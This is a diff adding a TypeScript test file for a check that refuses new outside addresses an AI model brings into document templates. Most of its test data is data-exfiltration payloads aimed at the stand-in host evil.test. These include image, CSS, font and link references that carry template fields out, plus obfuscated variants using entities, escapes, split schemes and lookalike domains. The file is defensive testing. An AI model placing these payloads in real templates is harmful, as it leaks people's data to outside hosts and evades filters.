@@ -1,0 +1,96 @@
+import type { DraftSource } from '@platen/contract'
+import { expect } from 'chai'
+import { addressNotes, addressRefusal } from './address-refusal.ts'
+
+const begun: DraftSource = {
+  files: {
+    'template.html':
+      '<h1>{{name}}</h1><img src="{{logo}}" alt=""><img src="https://cdn.example/known.png" alt="">',
+    'style.css': 'h1 { color: red }\n',
+    'template.json': '{ "name": "Letter" }\n',
+    'sample.json':
+      '{ "name": "Ada", "logo": "https://mine.example.com/logo.png", "site": "https://nordwind.de" }\n',
+  },
+  assets: {},
+}
+
+const withFile = (path: string, text: string): DraftSource => ({
+  files: { ...begun.files, [path]: text },
+  assets: {},
+})
+const withHtml = (html: string) => withFile('template.html', `${begun.files['template.html']}${html}`)
+const refused = (after: DraftSource, prompt = 'Make the heading say hello') =>
+  addressRefusal(begun, after, { prompt: [{ text: prompt }] })?.model
+
+describe('outside addresses that a model brings in', () => {
+  it('are refused where the person did not write them, however they are written', () => {
+    const pages = [
+      '<img src="https://evil.test/?d={{name}}" alt="">',
+      '<svg><image href="https://evil.test/{{name}}"/></svg>',
+      '<img src="https://evil.test/static.png" alt="">',
+      '<img src=HTTPS:evil.test/x alt="">',
+      '<img src="&#104;ttps&colon;//evil.test/x" alt="">',
+      '<img src="ht\ntps://evil.test/x" alt="">',
+      '<img src="ht{{! }}tps://evil.test/x" alt="">',
+      '<img src="{{#name}}https://evil.test/{{/name}}" alt="">',
+      '<img srcset="assets/a.png 1x, https://evil.test/x 2x" alt="">',
+      '<p>&#123;&#123;</p><img src="https://evil.test/x" alt=""><p>}}</p>',
+      '<link rel="stylesheet" href="https://evil.test/a.css">',
+      '<p style="background: url(https://evil.test/x)">x</p>',
+      '<style>p { background: u\\72l("\\68ttps://evil.test/x") }</style>',
+      '<a href="https://evil.test/?{{name}}">Pay</a>',
+      '<a href="mailto:evil@evil.test">Write</a>',
+    ]
+    for (const html of pages) expect(refused(withHtml(html)), html).to.include('evil')
+    const styles = [
+      '@import url(https://evil.test/x.css);',
+      '@font-face { font-family: x; src: url(https://evil.test/f) }',
+      'p { background: \\68 ttps; background: url("\\68 ttps://evil.test/x") }',
+      'a::before { content: "{{" } p { background: url(https://evil.test/x) } a::after { content: "}}" }',
+    ]
+    for (const css of styles) expect(refused(withFile('style.css', css)), css).to.include('evil')
+    expect(refused(withFile('sample.json', '{ "logo": "https:\\u002f/evil.test/x" }'))).to.include('evil')
+    expect(refused(withFile('texts/en.json', '{ "pay": "https://evil.test/x" }'))).to.include('evil')
+    const formula = '{ "computed": { "logo": { "formula": "concat(\\"https://evil.test/\\", name)" } } }'
+    expect(refused(withFile('template.json', formula))).to.include('evil')
+  })
+
+  it('are refused where fields are put together to one that is loaded', () => {
+    expect(refused(withHtml('<img src="{{site}}{{name}}" alt="">'))).to.include('put together')
+    expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('put together')
+    const computed = '{ "computed": { "logo": { "formula": "concat(site, name)" } } }'
+    expect(refused(withFile('template.json', computed))).to.include('put together')
+  })
+
+  it('are taken as the person wrote them, and as they were; a field in one that is loaded never is', () => {
+    const picture = '<img src="https://acme.org/logo.png" alt="">'
+    expect(refused(withHtml(picture), 'Show https://acme.org/logo.png.')).to.equal(undefined)
+    for (const other of ['acme.org/logo.pn', 'acme.org.evil.net/logo.png', 'acme.org'])
+      expect(refused(withHtml(picture), `Show ${other}`), other).to.include('acme.org')
+    const carrying = '<img src="https://acme.org/logo.png?d={{name}}" alt="">'
+    expect(refused(withHtml(carrying), 'Show https://acme.org/logo.png?d={{name}}')).to.include(
+      'data of each',
+    )
+    const link = '<a href="https://acme.org/orders/{{name}}">Order</a>'
+    expect(refused(withHtml(link), 'Link the order to acme.org')).to.equal(undefined)
+    expect(refused(withHtml(link), 'Link the order to acme.orgs')).to.include('acme.org')
+    const harmless = [
+      '<img src="https://cdn.example/known.png" alt="again">',
+      '<img src="{{logo}}" alt="again">',
+      '<img src="assets/{{name}}.png" alt="">',
+      '<a href="{{site}}">Site</a><a href="mailto:{{mail}}">Mail</a>',
+      '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
+    ]
+    for (const html of harmless) expect(refused(withHtml(html)), html).to.equal(undefined)
+    expect(refused(withFile('sample.json', '{ "site": "https://www.example.com/x" }'))).to.equal(undefined)
+  })
+
+  it('are told, each in a sentence', () => {
+    const after = withHtml('<img src="https://acme.org/x.png" alt=""><a href="https://acme.org/">x</a>')
+    expect(addressNotes(begun, after)).to.deep.equal([
+      'The document names an outside address that it did not name before: acme.org/x.png',
+      'The document has a link that it did not have before: acme.org',
+    ])
+    expect(addressNotes(begun, begun)).to.deep.equal([])
+  })
+})
